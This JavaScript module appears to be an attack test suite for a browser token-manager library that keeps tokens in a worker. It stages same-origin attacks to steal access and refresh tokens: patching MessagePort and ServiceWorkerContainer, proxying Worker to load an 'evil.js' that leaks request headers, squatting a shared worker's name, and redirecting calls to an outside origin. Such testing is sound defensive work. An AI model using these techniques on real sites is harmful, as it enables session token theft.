// Scripts of the same origin that speak to the worker that keeps the token: on the page's own port, on another port,
// from another tab, and with their own worker. These attacks are mounted only in homes that have the worker.

import { ACCESS, REFRESH } from '../support/rows.mjs'
import { SERVICE_WORKER } from './origin.mjs'

const WORKERS = ['worker', 'shared-worker']
const SERVICE = ['service-worker']
const HOMES = [...WORKERS, ...SERVICE]
const SHARED = ['shared-worker']
const MEMORY = { refreshToken: { json: 'refresh_token' } }
const API = { apis: ['/api'] }

const alone = (name, seeks, inherent, mount, more) => ({ name, seeks, inherent, homes: HOMES, mount, ...more })

/** Records the page's ports, the worker and the first message. Runs in the page, before the package. */
function tap() {
  globalThis.tapped = { ports: new Set(), workers: [] }
  const { postMessage } = MessagePort.prototype
  MessagePort.prototype.postMessage = function (message, ...more) {
    if (message?.kind === 'hello') tapped.hello = structuredClone(message)
    tapped.ports.add(this)
    return postMessage.call(this, message, ...more)
  }
  for (const name of ['Worker', 'SharedWorker']) {
    globalThis[name] = new Proxy(globalThis[name], {
      construct(of, args) {
        tapped.workers.push({ name, args, worker: Reflect.construct(of, args) })
        return tapped.workers.at(-1).worker
      },
    })
  }
}

/**
 * Sends these messages on the tapped port, and records all answers, until every message with an id is answered. Runs in
 * the page.
 */
async function say(messages) {
  const [port] = tapped.ports
  const waiting = new Set(messages.flatMap(({ id }) => id ?? []))
  const answered = new Promise((resolve) => {
    port.addEventListener('message', ({ data }) => {
      attacker.keep(data)
      waiting.delete(data.id)
      if (!waiting.size) resolve()
    })
  })
  for (const message of messages) port.postMessage(message)
  await answered
}

/** A signed-in tab with a tapped port. */
const tappedTab = (scene, options) => scene.signedIn({ options: { ...API, ...options }, before: tap })

/** What was sent to another server, or outside of the API. */
const lured = ({ server, elsewhere }) => [
  elsewhere.loot(),
  server
    .seen()
    .filter(({ path }) => !/^\/(api|auth)(\/|$)/.test(path))
    .map(({ headers }) => [headers.authorization, headers['x-token']]),
]

/** Malformed messages of every kind, with members that a careless reader may trip over. */
const ODD = [
  undefined,
  null,
  0,
  '',
  'token?',
  [],
  {},
  { kind: 'hello' },
  { kind: '__proto__' },
  { kind: 'constructor' },
  ...[
    'fetch',
    'call',
    'body',
    'abort',
    'pull',
    'cancel',
    'marks',
    'shown',
    'facts',
    'welcome',
    'state',
    'token',
  ].flatMap((kind) => [
    { kind },
    { kind, id: -1, stream: -1, method: 'login', request: null, facts: null, marks: null },
    {
      kind,
      id: '__proto__',
      stream: '__proto__',
      method: '__proto__',
      request: { url: 7, init: 7 },
      facts: { cookies: 7 },
      marks: 7,
    },
    {
      kind,
      id: 1e9,
      method: 'exchange',
      request: { url: '//', init: { method: 7, headers: 7 }, body: { later: true } },
    },
  ]),
]

export default [
  alone("Forged messages on the page's port ask for the token", ACCESS, [], async (scene) => {
    const page = await tappedTab(scene)
    const methods = [
      'getAccessToken',
      'peekAccessToken',
      'state',
      'constructor',
      'toString',
      'known',
      'signedIn',
      'refresh',
    ]
    await page.evaluate(
      say,
      methods.flatMap((method, i) => [{ kind: method }, { kind: 'call', id: 1e6 + i, method }]),
    )
    return scene.loot(page)
  }),
  alone(
    "Forged messages on the page's port ask for the refresh token in memory",
    REFRESH,
    [],
    async (scene) => {
      const page = await tappedTab(scene, MEMORY)
      const request = { url: `${scene.server.origin}/auth/refresh`, init: { method: 'POST', headers: [] } }
      await page.evaluate(
        say,
        ['login', 'exchange', 'logout', 'fetch'].map((method, i) => ({
          kind: method === 'fetch' ? method : 'call',
          id: 1e6 + i,
          method,
          request,
        })),
      )
      return scene.loot(page)
    },
    { server: { isInMemory: true } },
  ),
  alone("Forged messages on the page's port widen the options", ACCESS, [], async (scene) => {
    const page = await tappedTab(scene)
    await page.evaluate(async (far) => {
      const options = { ...tapped.hello?.options, apis: [far], exposeToken: true }
      const facts = { cookies: {}, controlled: false, visible: true, apis: [far] }
      const [port] = tapped.ports
      for (const message of [
        { ...tapped.hello, kind: 'hello', options },
        { kind: 'facts', facts, options },
        { kind: 'welcome', apis: [[far, '/']] },
      ])
        port.postMessage(message)
      port.addEventListener('message', ({ data }) => attacker.keep(data))
      await auth.fetch('/api/me')
      // The page may believe this message, but the worker sends the requests.
      port.dispatchEvent(new MessageEvent('message', { data: { kind: 'welcome', apis: [[far, '/']], cookies: [] } }))
      await auth.fetch(`${far}/x`).catch(() => {})
    }, scene.elsewhere.origin)
    return [...lured(scene), await scene.loot(page)]
  }),
  alone("Forged messages on the page's port request calls to other places", ACCESS, [], async (scene) => {
    scene.server.routes['/outside'] = () => ({ body: 'outside' })
    const page = await tappedTab(scene)
    const urls = [
      `${scene.elsewhere.origin}/x`,
      `${scene.server.origin}/outside`,
      '/outside',
      `${scene.server.origin}/api/../outside`,
      `http://127.0.0.1:${scene.elsewhere.port}/api/x`,
      [`${scene.elsewhere.origin}/x`],
    ]
    const inits = [{ headers: [] }, { headers: [], mode: 'no-cors' }, { method: 'POST', headers: [['X-One', '1']] }]
    let id = 1e6
    // In rounds, because a login or a logout would cancel calls that are not yet sent.
    for (const method of ['fetch', 'exchange', 'login', 'logout']) {
      // An exchange may go to every path of the refresh endpoint's server: see the attack in origin.mjs.
      const asked = urls.filter((url) => method !== 'exchange' || !url.includes(scene.server.origin))
      await page.evaluate(
        say,
        asked.flatMap((url) =>
          inits.map((init) =>
            method === 'fetch'
              ? { kind: 'fetch', id: ++id, request: { url, init } }
              : { kind: 'call', id: ++id, method, request: { url, init: { method: 'POST', ...init } } },
          ),
        ),
      )
    }
    return lured(scene)
  }),
  alone('A flood of malformed messages, to get errors that contain the token', ACCESS, [], async (scene) => {
    const page = await tappedTab(scene)
    await page.evaluate(async (messages) => {
      const [port] = tapped.ports
      port.addEventListener('message', ({ data }) => attacker.keep(data))
      for (const message of messages) port.postMessage(message)
    }, Array(40).fill(ODD).flat())
    // Its answer comes after those to the flood.
    await page.evaluate(say, [{ kind: 'call', id: 1e6, method: 'refresh' }])
    const answer = await page.evaluate(() => auth.fetch('/api/me').then(({ status }) => status))
    if (answer !== 200) throw new Error(`the app goes on: ${answer}`)
    return scene.loot(page)
  }),
  alone("Another port to the page's worker, with the attacker's options", ACCESS, [], async (scene) => {
    const page = await tappedTab(scene)
    await page.evaluate(async (far) => {
      const { name, args, worker } = tapped.workers[0] ?? {}
      const { port1, port2 } = new MessageChannel()
      let port = port1
      if (!name) (await navigator.serviceWorker.ready).active.postMessage({ tokenkeep: 'evil' }, [port2])
      else if (name === 'Worker') worker.postMessage('tokenkeep', [port2])
      else ({ port } = Reflect.construct(SharedWorker, args))
      port.onmessage = ({ data }) => attacker.keep(data)
      port.postMessage({ ...tapped.hello, kind: 'hello', options: { ...tapped.hello.options, apis: [far] } })
      port.postMessage({ kind: 'facts', facts: { cookies: {}, controlled: false, visible: true } })
      port.postMessage({ kind: 'fetch', id: 1, request: { url: `${far}/x`, init: { headers: [] } } })
      await auth.fetch('/api/me')
      await auth.fetch('/api/last')
    }, scene.elsewhere.origin)
    return [...lured(scene), await scene.loot(page)]
  }),
  alone(
    "A shared worker with the app's name, which another tab starts before the app, with more `apis`",
    ACCESS,
    [],
    async (scene) => {
      const squatter = await squats(scene)
      const page = await scene.tab({ options: { ...API, ...MEMORY }, before: tap }).catch(() => undefined)
      await page?.evaluate(async (far) => {
        await auth.login('/auth/login', { body: new URLSearchParams({ username: 'alice' }) }).catch(() => {})
        await auth.fetch('/api/me').catch(() => {})
        await auth.fetch(`${far}/x`).catch(() => {})
      }, scene.elsewhere.origin)
      await squatter.evaluate((far) => send(`${far}/x`), scene.elsewhere.origin)
      return [...lured(scene), await scene.loot(squatter)]
    },
    { homes: SHARED, server: { isInMemory: true } },
  ),
  alone(
    "A shared worker with the app's name, which another tab starts before the app, with more `apis`",
    'the app cannot start',
    SHARED,
    async (scene) => {
      await squats(scene)
      return scene.tab({ options: { ...API, ...MEMORY } }).then(
        () => false,
        () => true,
      )
    },
    { homes: SHARED, server: { isInMemory: true } },
  ),
  ...['before', 'after'].map((when) =>
    alone(
      '`MessagePort.prototype.postMessage` adds to the options',
      ACCESS,
      when === 'before' ? WORKERS : [],
      async (scene) => {
        // If the worker already has other options, the app does not start.
        const page = await scene
          .tab({
            options: API,
            argument: scene.elsewhere.origin,
            [when]: (far) => {
              const { postMessage } = MessagePort.prototype
              MessagePort.prototype.postMessage = function (message, ...more) {
                return postMessage.call(
                  this,
                  message.options ? { ...message, options: { ...message.options, apis: [far] } } : message,
                  ...more,
                )
              }
            },
          })
          .catch(() => undefined)
        if (!page) return lured(scene)
        await scene.signIn(page)
        await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
        return lured(scene)
      },
      { when },
    ),
  ),
  ...['before', 'after'].map((when) =>
    alone(
      '`Worker` and `SharedWorker` start another script',
      ACCESS,
      when === 'before' ? WORKERS : [],
      async (scene) => {
        scene.server.routes['/evil.js'] = () => ({
          type: 'text/javascript',
          body: `
      const { fetch } = globalThis
      const told = new BroadcastChannel('evil')
      globalThis.fetch = (...args) => {
        const request = new Request(...args)
        told.postMessage([...request.headers].flat())
        return fetch(request)
      }
      addEventListener('message', ({ data }) => {
        told.postMessage(String(data))
        globalThis.postMessage?.('')
      })
      // Messages that arrive before the script has loaded are not lost.
      const early = []
      const listen = (event) => early.push(event)
      for (const type of ['message', 'connect']) addEventListener(type, listen)
      await import('/tokenkeep/isolation/script.js')
      for (const type of ['message', 'connect']) removeEventListener(type, listen)
      for (const { type, data, ports } of early) dispatchEvent(new MessageEvent(type, { data, ports: [...ports] }))
    `,
        })
        const page = await scene.tab({
          options: API,
          [when]: () => {
            new BroadcastChannel('evil').onmessage = ({ data }) => attacker.keep(data)
            for (const name of ['Worker', 'SharedWorker'])
              globalThis[name] = new Proxy(globalThis[name], {
                construct: (of, [, how]) => new of('/evil.js', { ...how, type: 'module' }),
              })
          },
        })
        await scene.signIn(page)
        await page.evaluate(async () => {
          await auth.fetch('/api/me')
          await auth.fetch('/api/me')
        })
        return scene.loot(page)
      },
      { when, homes: WORKERS },
    ),
  ),
  ...['before', 'after'].map((when) =>
    alone(
      '`ServiceWorkerContainer`: `register` adds to the options, and `getRegistration` is patched',
      ACCESS,
      when === 'before' ? SERVICE : [],
      async (scene) => {
        const page = await scene.tab({
          options: API,
          argument: scene.elsewhere.origin,
          [when]: (far) => {
            const { register } = ServiceWorkerContainer.prototype
            let asked
            ServiceWorkerContainer.prototype.register = function (given, ...more) {
              const url = new URL(given, location.href)
              asked = url.href
              const options = JSON.parse(url.searchParams.get('tokenkeep') ?? '{}')
              options.apis = [far]
              url.searchParams.set('tokenkeep', JSON.stringify(options))
              return register.call(this, url, ...more)
            }
            attacker.spy(ServiceWorkerContainer.prototype, 'getRegistration')
            // The page sees the script URL that it expects, and its `hello` has the options that the worker was given.
            const { postMessage } = MessagePort.prototype
            MessagePort.prototype.postMessage = function (message, ...more) {
              return postMessage.call(
                this,
                message.options ? { ...message, options: { ...message.options, apis: [far] } } : message,
                ...more,
              )
            }
            const { get } = Object.getOwnPropertyDescriptor(ServiceWorker.prototype, 'scriptURL')
            Object.defineProperty(ServiceWorker.prototype, 'scriptURL', {
              get() {
                return asked ?? get.call(this)
              },
            })
          },
        })
        await scene.signIn(page)
        await page.evaluate((far) => auth.fetch(`${far}/x`).catch(() => {}), scene.elsewhere.origin)
        return [...lured(scene), await scene.loot(page)]
      },
      { when, homes: SERVICE },
    ),
  ),
  alone(
    "The attacker's service worker replaces the app's, and calls the refresh endpoint",
    ACCESS,
    SERVICE,
    async (scene) => {
      const page = await scene.signedIn({ options: API })
      await replace(scene, page)
      return page.evaluate(() => fetch('/auth/refresh', { method: 'POST' }).then((answer) => answer.text()))
    },
    { homes: SERVICE },
  ),
  alone(
    "The attacker's service worker replaces the app's, with the refresh token in memory",
    REFRESH,
    [],
    async (scene) => {
      const page = await scene.signedIn({ options: { ...API, ...MEMORY } })
      await replace(scene, page)
      await page.evaluate(async () => {
        await auth.refresh().catch(() => {})
        await auth.login('/auth/login', { body: new URLSearchParams({ username: 'alice' }) }).catch(() => {})
      })
      return loot(page)
    },
    { homes: SERVICE, server: { isInMemory: true } },
  ),
  alone(
    'A new frame, after the service worker was unregistered, fetches the refresh endpoint',
    ACCESS,
    SERVICE,
    async (scene) => {
      await scene.signedIn({ options: API })
      const other = await scene.blank()
      await other.evaluate(async () => (await navigator.serviceWorker.getRegistration()).unregister())
      await scene.user.context.pages()[0].close()
      const last = await scene.blank('/bare.html?')
      await other.close()
      await last.reload()
      return last.evaluate(() => fetch('/auth/refresh', { method: 'POST' }).then((answer) => answer.text(), String))
    },
    { homes: SERVICE },
  ),
  alone(
    "The page's own `fetch` and XMLHttpRequest, and all that they reveal of a call with the token",
    ACCESS,
    [],
    async (scene) => {
      const page = await scene.tab({
        options: API,
        before: () => {
          attacker.spy(globalThis, 'fetch')
          attacker.spy(XMLHttpRequest.prototype, 'getAllResponseHeaders')
        },
      })
      await scene.story(page)
      await page.evaluate(async () => {
        const request = new Request('/api/me')
        attacker.keep(
          request,
          await fetch(request),
          performance.getEntries().map((entry) => entry.toJSON()),
        )
        const xhr = new XMLHttpRequest()
        xhr.open('GET', '/api/me')
        await new Promise((resolve) => {
          xhr.onloadend = resolve
          xhr.send()
        })
        attacker.keep(xhr.responseText, xhr.getAllResponseHeaders())
        for (const name of await caches.keys())
          for (const kept of await (await caches.open(name)).keys()) attacker.keep(kept)
      })
      return scene.loot(page)
    },
    { homes: SERVICE },
  ),
  alone(
    "The API redirects a call of the page's own `fetch` elsewhere, and the token is in a custom header",
    ACCESS,
    [],
    async (scene) => {
      const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, x-token' }
      scene.server.routes['/api/out'] = () => ({
        status: 302,
        headers: { ...cors, location: `${scene.elsewhere.origin}/landed` },
      })
      const page = await scene.signedIn({ options: { ...API, attach: { header: 'X-Token', scheme: '' } } })
      await page.evaluate(async () => {
        for (const send of [fetch, auth.fetch]) await send('/api/out').catch(() => {})
      })
      return lured(scene)
    },
    { homes: SERVICE },
  ),
  alone(
    "A worker started by the attacker, with the package's script, more `apis` and the refresh cookie",
    ACCESS,
    HOMES,
    async (scene) => {
      await scene.signedIn({ options: API })
      return ownWorker(scene)
    },
  ),
  alone(
    "A worker started by the attacker, with the package's script and more `apis`, and the refresh token in memory",
    ACCESS,
    [],
    async (scene) => {
      await scene.signedIn({ options: { ...API, ...MEMORY } })
      return ownWorker(scene, MEMORY)
    },
    { server: { isInMemory: true } },
  ),
]

/** Replaces the app's service worker by the attacker's. */
async function replace(scene, page) {
  scene.server.routes['/attacker-sw.js'] = () => ({ type: 'text/javascript', body: SERVICE_WORKER })
  await page.evaluate(async () => {
    const { serviceWorker } = navigator
    const changed = new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve))
    await serviceWorker.register('/attacker-sw.js')
    await changed
  })
}

/** What the attacker's service worker has seen. */
function loot(page) {
  return page.evaluate(async () => {
    const { active } = await navigator.serviceWorker.ready
    const { port1, port2 } = new MessageChannel()
    return new Promise((resolve) => {
      port1.onmessage = ({ data }) => resolve(data)
      active.postMessage('', [port2])
    })
  })
}

/** The attacker's manager in another tab, which sends its token to the attacker. */
async function ownWorker(scene, options) {
  const { module, options: home } = scene.home
  const other = await scene.blank()
  await other.evaluate(
    async ([module, home, far, options]) => {
      const { createTokenManager } = await import(module)
      const mine = createTokenManager({
        refresh: '/auth/refresh',
        logout: '/auth/logout',
        apis: [far],
        ...home,
        ...options,
      })
      await mine.fetch(`${far}/x`).catch(() => {})
    },
    [module, home, scene.elsewhere.origin, options],
  )
  return lured(scene)
}

/**
 * A tab of the attacker that has started a shared worker under the name that the app will use, with the attacker's
 * options, which it claims to be the app's. It can `send` messages to the worker.
 */
async function squats(scene) {
  const told = await scene.blank()
  await told.evaluate(tap)
  await told.evaluate(() => {
    const { SharedWorker } = globalThis
    globalThis.SharedWorker = new Proxy(SharedWorker, {
      construct(of, args) {
        const made = Reflect.construct(of, [URL.createObjectURL(new Blob([''])), { name: 'none' }])
        globalThis.named = args.map((arg) => (arg instanceof URL ? arg.href : arg))
        return made
      },
    })
  })
  await told.evaluate(
    async ([module, options]) => {
      const { createTokenManager } = await import(module)
      globalThis.none = createTokenManager(options)
    },
    [scene.home.module, { refresh: '/auth/refresh', logout: '/auth/logout', ...API, ...MEMORY, ...scene.home.options }],
  )
  const [args, hello] = await told.evaluate(() => [named, tapped.hello])
  await told.close()

  const squatter = await scene.blank()
  await squatter.evaluate(
    ([args, hello, far]) => {
      const { port } = Reflect.construct(SharedWorker, args)
      const ready = new Promise((resolve) => {
        port.onmessage = ({ data }) => {
          attacker.keep(data)
          if (data.kind === 'welcome')
            port.postMessage({ kind: 'facts', facts: { cookies: {}, controlled: false, visible: true } })
          if (data.kind === 'ready' || data.kind === 'failed') resolve()
        }
      })
      globalThis.send = (url) =>
        new Promise((resolve) => {
          port.addEventListener('message', ({ data }) => data.id === 1 && resolve())
          port.postMessage({ kind: 'fetch', id: 1, request: { url, init: { headers: [] } } })
        })
      port.postMessage({ ...hello, options: { ...hello.options, apis: [far, ...hello.options.apis] } })
      return ready
    },
    [args, hello, scene.elsewhere.origin],
  )
  return squatter
}
